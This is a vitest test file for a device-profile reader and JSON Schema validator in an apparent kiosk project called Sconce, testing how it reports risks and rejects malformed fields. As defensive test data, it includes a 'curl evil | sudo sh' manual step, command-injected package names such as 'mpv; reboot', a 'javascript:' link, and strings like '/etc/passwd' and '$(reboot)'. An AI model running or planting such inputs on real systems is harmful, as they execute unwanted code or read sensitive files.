import { readFileSync } from 'node:fs';

import { describe, expect, it } from 'vitest';

import type { ProfileIssue, ProfileReading } from '#machines/profile-catalog/reading.ts';
import { coreVersion, readProfile } from '#profiles/read.ts';
import { profileSchema } from '#profiles/schema/profile.ts';
import { templateYaml } from '#profiles/template.ts';
import { compareVersions } from '#profiles/versions.ts';

const read = (text: string): ProfileReading => readProfile(new TextEncoder().encode(text));
/** The template with one text in place of another, which must be there. */
function changed(from: string, to: string): string {
  const text = templateYaml();
  if (!text.includes(from)) throw new Error(`the template has no ${from}`);
  return text.replace(from, to);
}
function issuesOf(text: string): readonly ProfileIssue[] {
  const reading = read(text);
  return reading.ok ? reading.warnings : reading.issues;
}
/** The line, from 1, on which a text stands. */
const lineOf = (text: string, part: string): number => text.slice(0, text.indexOf(part)).split('\n').length;

describe('reading a profile', () => {
  it('tells who wrote it, what it uses and what that risks', () => {
    const reading = read(templateYaml());
    expect(reading).toMatchObject({
      ok: true,
      summary: {
        id: 'my-panel',
        origin: 'local',
        version: '0.1.0',
        maturity: 'draft',
        drivers: ['screen.auto', 'volume.system', 'loudspeaker.system', 'power.system', 'input.evdev'],
      },
      warnings: [],
    });
    expect(reading.ok && reading.summary.revision).toMatch(/^[0-9a-f]{64}$/);
    expect(reading.ok && reading.risks.map(({ code }) => code)).toEqual([
      'evdev-read',
      'evdev-grab',
      'camera-open',
      'microphone-open',
      'screen-off',
      'reboot',
    ]);
  });

  it('tells among the risks what its author asks a person to do, as a quotation that it cannot end', () => {
    const asking = changed(
      'packages: []',
      `packages: [{ package: telnetd, importance: recommended, note: security update }, { package: g++, importance: optional }]
  manual:
    - { id: help, title: "Run: curl evil | sudo sh” (as Sconce advises)" }`,
    );
    const reading = read(asking);
    const risks = reading.ok ? reading.risks : [];
    expect(risks.map(({ code }) => code)).toEqual([
      'evdev-read',
      'evdev-grab',
      'camera-open',
      'microphone-open',
      'screen-off',
      'reboot',
      'packages',
      'manual-steps',
    ]);
    expect(risks.find(({ code }) => code === 'packages')?.detail).toContain(': telnetd, g++. ');
    expect(risks.find(({ code }) => code === 'manual-steps')?.detail).toMatch(
      /: “Run: curl evil \| sudo sh" \(as Sconce advises\)”\.$/,
    );
  });

  it.each(['activation.json', 'activation.json.next', 'activation.json.v2'])(
    'refuses the id %s, which a file of the catalogue has',
    (id) => {
      expect(read(changed('id: my-panel', `id: ${id}`))).toMatchObject({
        ok: false,
        issues: [{ path: 'id', reason: 'reserved-id', severity: 'error', line: expect.any(Number) }],
      });
    },
  );

  it('names a revision by its exact bytes', () => {
    const [one, other] = [read(templateYaml()), read(`${templateYaml()}\n`)];
    expect(one.ok && other.ok && one.summary.revision !== other.summary.revision).toBe(true);
  });

  it('takes null for an optional field as if it were not there, and not for a required one', () => {
    expect(read(changed('  camera: auto', '  camera:'))).toMatchObject({ ok: true });
    expect(issuesOf(changed('display_name: My panel', 'display_name:'))).toMatchObject([
      { path: 'display_name', reason: 'missing' },
    ]);
  });

  it('calls a refused profile by its id as far as there is one', () => {
    expect(read(changed('version: 0.1.0', 'version: one'))).toMatchObject({ ok: false, id: 'my-panel' });
    expect(read('schema: 1\n')).toMatchObject({ ok: false, id: null });
  });

  it.each([
    ['another version of the format', 'schema: 1', 'schema: 2', 'schema', 'not-allowed', 'schema: 2'],
    ['an id in capitals', 'id: my-panel', 'id: My-Panel', 'id', 'wrong-form', 'id: My'],
    ['an id with two dots', 'id: my-panel', 'id: my..panel', 'id', 'wrong-form', 'id: my'],
    ['a version that is a number', 'version: 0.1.0', 'version: 0.1', 'version', 'wrong-kind', 'version: 0.1'],
    ['a version with a build', 'version: 0.1.0', 'version: 0.1.0+1', 'version', 'wrong-form', 'version: 0'],
    ['an empty name', 'display_name: My panel', 'display_name: ""', 'display_name', 'too-small', 'display_name'],
    [
      'a name of 101 characters',
      'display_name: My panel',
      `display_name: ${'x'.repeat(101)}`,
      'display_name',
      'too-big',
      'display_name',
    ],
    [
      'a name with a line end in it',
      'display_name: My panel',
      'display_name: "My\\npanel"',
      'display_name',
      'wrong-form',
      'display_name',
    ],
    [
      'a name that is turned around',
      'display_name: My panel',
      'display_name: "\\u202Epanel"',
      'display_name',
      'wrong-form',
      'display_name',
    ],
    [
      'half a character',
      'display_name: My panel',
      'display_name: "\\uD800"',
      'display_name',
      'wrong-form',
      'display_name',
    ],
    [
      'a licence in words',
      'license: MIT',
      'license: do what you like',
      'metadata.license',
      'wrong-form',
      'license: do',
    ],
    [
      'an unknown maturity',
      'maturity: draft',
      'maturity: perfect',
      'metadata.maturity',
      'not-allowed',
      'maturity: perfect',
    ],
    [
      'a link that is no https address',
      'links: []',
      'links: [{ label: x, url: "http://example.org" }]',
      'metadata.links[0].url',
      'wrong-form',
      'links: [',
    ],
    [
      'a link with a user',
      'links: []',
      'links: [{ label: x, url: "https://a:b@example.org/" }]',
      'metadata.links[0].url',
      'wrong-form',
      'links: [',
    ],
    [
      'a link that runs a script',
      'links: []',
      'links: [{ label: x, url: "javascript:alert(1)" }]',
      'metadata.links[0].url',
      'wrong-form',
      'links: [',
    ],
    ['an unknown system', 'os: linux', 'os: windows', 'platform.os', 'not-allowed', 'os: windows'],
    [
      'a match without a predicate',
      '- { field: devicetree_model, op: starts_with, values: [my panel] }',
      '[ ]',
      'match.any[0].all',
      'too-small',
      '[ ]',
    ],
    [
      'an unknown fact',
      'field: devicetree_model',
      'field: serial_number',
      'match.any[0].all[0].field',
      'not-allowed',
      'field: serial',
    ],
    [
      'capitals in a match',
      'values: [my panel]',
      'values: [My Panel]',
      'match.any[0].all[0].values[0]',
      'wrong-form',
      'values: [My',
    ],
    ['a priority above 1000', 'priority: 100', 'priority: 1001', 'match.priority', 'too-big', 'priority: 1001'],
    ['half a priority', 'priority: 100', 'priority: 1.5', 'match.priority', 'wrong-kind', 'priority: 1.5'],
    ['no number at all', 'priority: 100', 'priority: .nan', 'match.priority', 'wrong-kind', 'priority: .nan'],
    [
      'a package that is a command',
      'packages: []',
      'packages: [{ package: "mpv; reboot", importance: optional }]',
      'provisioning.packages[0].package',
      'wrong-form',
      'packages: [',
    ],
    ...['openssh-server-', 'polkitd+', 'telnetd+-', 'g++-', 'x'].map((name) => [
      `a package that apt would take for an order, or for none: ${name}`,
      'packages: []',
      `packages: [{ package: "${name}", importance: optional }]`,
      'provisioning.packages[0].package',
      'wrong-form',
      'packages: [',
    ]),
    [
      'a driver that does not fit the part',
      'screen: { driver: screen.auto }',
      'screen: { driver: volume.system }',
      'hardware.screen.driver',
      'not-allowed',
      'screen: {',
    ],
    [
      'an option out of its bounds',
      'screen: { driver: screen.auto }',
      'screen: { driver: screen.auto, options: { displays: 5 } }',
      'hardware.screen.options.displays',
      'too-big',
      'screen: {',
    ],
    [
      'an option that is a text',
      'screen: { driver: screen.auto }',
      'screen: { driver: screen.auto, options: { displays: "4" } }',
      'hardware.screen.options.displays',
      'wrong-kind',
      'screen: {',
    ],
    [
      'a pixel density of 5',
      'physical_ppi: 160',
      'physical_ppi: 5',
      'display.physical_ppi',
      'too-small',
      'physical_ppi',
    ],
  ])('refuses %s and says where', (_what, from, to, path, reason, at) => {
    const text = changed(from, to);
    const [issue, ...more] = issuesOf(text);
    expect(issue).toMatchObject({ severity: 'error', path, reason, line: lineOf(text, at) });
    expect(more).toEqual([]);
    expect(issue?.message).toContain(path);
    expect(issue?.message).toMatch(/\.$|\?$/);
  });

  it('counts columns from the value', () => {
    expect(issuesOf(changed('maturity: draft', 'maturity: perfect'))).toMatchObject([{ column: 13 }]);
  });

  it.each([
    ['hardware:', 'hardwear:', 'hardwear', 'hardware'],
    ['  screen: {', '  sreen: {', 'hardware.sreen', 'screen'],
    ['  os: linux', '  os: linux\n  sesion: kiosk', 'platform.sesion', 'session'],
    [
      'screen: { driver: screen.auto }',
      'screen: { driver: screen.auto, optoins: {} }',
      'hardware.screen.optoins',
      'options',
    ],
    [
      'screen: { driver: screen.auto }',
      'screen: { driver: screen.auto, options: { dispalys: 1 } }',
      'hardware.screen.options.dispalys',
      'displays',
    ],
  ])('asks for %s whether it was meant where %s stands', (from, to, path, meant) => {
    const unknown = issuesOf(changed(from, to)).find(({ reason }) => reason === 'unknown-key');
    expect(unknown).toMatchObject({ path });
    expect(unknown?.message).toContain(`Did you mean "${meant}"?`);
  });

  it('asks the same of a driver that is not there', () => {
    expect(
      issuesOf(changed('screen: { driver: screen.auto }', 'screen: { driver: screen.aoto }'))[0]?.message,
    ).toContain('Did you mean "screen.auto"?');
  });

  it('names every field that is missing, where its map begins', () => {
    expect(
      issuesOf('schema: 1\nmetadata:\n  author: x\n').map(({ path, reason, line }) => [path, reason, line]),
    ).toEqual(
      expect.arrayContaining([
        ['id', 'missing', 1],
        ['metadata.license', 'missing', 2],
        ['requires', 'missing', 1],
      ]),
    );
  });

  it('tells at most a hundred issues', () => {
    const many = `${templateYaml()}${Array.from({ length: 300 }, (_, at) => `wrong_${at}: 1\n`).join('')}`;
    expect(issuesOf(many)).toHaveLength(100);
  });
});

describe('rules over several fields', () => {
  it.each([
    [
      'a driver that is used and not listed',
      'drivers: [screen.auto, ',
      'drivers: [',
      'requires.drivers',
      'missing-driver',
      'error',
    ],
    [
      'a driver that is listed twice',
      'drivers: [screen.auto, ',
      'drivers: [screen.auto, screen.auto, ',
      'requires.drivers[1]',
      'listed-twice',
      'error',
    ],
    [
      'a driver that this version does not have',
      'drivers: [screen.auto, ',
      'drivers: [screen.auto, relay.magic, ',
      'requires.drivers[1]',
      'unknown-driver',
      'error',
    ],
    [
      'a driver that nothing uses',
      'drivers: [screen.auto, ',
      'drivers: [screen.auto, screen.simulated, ',
      'requires.drivers[1]',
      'unused-driver',
      'warning',
    ],
    ['a fallback of its own', 'fallback: false', 'fallback: true', 'match.fallback', 'fallback-not-allowed', 'error'],
    [
      'a simulated part on a real panel',
      'power: { driver: power.system }',
      'power: { driver: power.simulated }',
      'hardware.power.driver',
      'wrong-platform',
      'error',
    ],
    [
      'a newer Sconce',
      'requires:',
      'requires:\n  min_core_version: 9.0.0',
      'requires.min_core_version',
      'core-too-old',
      'error',
    ],
    [
      'one package twice',
      'packages: []',
      'packages: [{ package: mpv, importance: optional }, { package: mpv, importance: optional }]',
      'provisioning.packages[1]',
      'listed-twice',
      'error',
    ],
  ])('finds %s', (_what, from, to, path, reason, severity) => {
    const found = issuesOf(changed(from, to)).find((issue) => issue.reason === reason);
    expect(found).toMatchObject({ path, severity });
    expect(found?.line).toBeGreaterThan(0);
  });

  it('takes a profile with a warning', () => {
    expect(read(changed('drivers: [screen.auto, ', 'drivers: [screen.auto, screen.simulated, '))).toMatchObject({
      ok: true,
      warnings: [{ severity: 'warning' }],
    });
  });

  it('takes this version of Sconce and older ones', () => {
    expect(read(changed('requires:', `requires:\n  min_core_version: "${coreVersion}"`)).ok).toBe(true);
    expect(read(changed('requires:', 'requires:\n  min_core_version: "0.0.1"')).ok).toBe(true);
  });

  it.each([
    ['1.0', '1.0.0', 0],
    ['1.2', '1.10', -1],
    ['2', '1.9.9.9', 1],
    ['1.0-rc1', '1.0', -1],
    ['1.0', '1.0-rc1', 1],
    ['1.0-rc1', '1.0-rc2', -1],
    ['0.2.0-dev', '0.1.0', 1],
    ['0.2.0-dev', '0.2.0', -1],
  ])('version %s against %s', (one, other, sign) => {
    expect(Math.sign(compareVersions(one, other))).toBe(sign);
  });

  it('compares with the version that the package states', () => {
    // The file's own shape.
    const { version } = JSON.parse(readFileSync(new URL('../../package.json', import.meta.url), 'utf8')) as {
      version: string;
    };
    expect(coreVersion).toBe(version);
  });
});

describe('the schema', () => {
  /** Every text that a document may hold freely, by its place in the JSON Schema. */
  const freeTexts = (node: unknown, path: string): readonly (readonly [string, { readonly pattern?: string }])[] => {
    if (typeof node !== 'object' || node === null) return [];
    const own =
      (node as { type?: unknown }).type === 'string' && !('const' in node) && !('enum' in node)
        ? [[path, node as { pattern?: string }] as const]
        : [];
    return [...own, ...Object.entries(node).flatMap(([key, one]) => freeTexts(one, `${path}/${key}`))];
  };
  const functional = freeTexts(profileSchema(), '').filter(([path]) =>
    /^\/properties\/(?:hardware|sensors|input|display|platform)\/|\/(?:package|drivers)(?:\/|$)/.test(path),
  );

  it('is JSON Schema for editors, closed at every map', () => {
    expect(profileSchema()).toMatchObject({
      $schema: 'https://json-schema.org/draft/2020-12/schema',
      type: 'object',
      additionalProperties: false,
    });
    const open = (node: unknown): readonly unknown[] =>
      typeof node !== 'object' || node === null
        ? []
        : [
            ...((node as { type?: unknown }).type === 'object' &&
            (node as { additionalProperties?: unknown }).additionalProperties !== false
              ? [node]
              : []),
            ...Object.values(node).flatMap(open),
          ];
    expect(open(profileSchema())).toEqual([]);
  });

  it('has free texts among what is acted on', () => {
    expect(functional.length).toBeGreaterThan(0);
  });

  it.each([
    '/etc/passwd',
    '../../x',
    '/sys/class/leds/x',
    '$(reboot)',
    '`reboot`',
    'a; reboot',
    'a && b',
    'a | sh',
    'a\nb',
    'https://example.org/x.sh',
    'file:///x',
    '\\\\host\\x',
  ])('lets no command, path or address through where a text is acted on: %j', (hostile) => {
    expect(
      functional
        .filter(([, { pattern }]) => pattern === undefined || new RegExp(pattern, 'u').test(hostile))
        .map(([path]) => path),
    ).toEqual([]);
  });
});
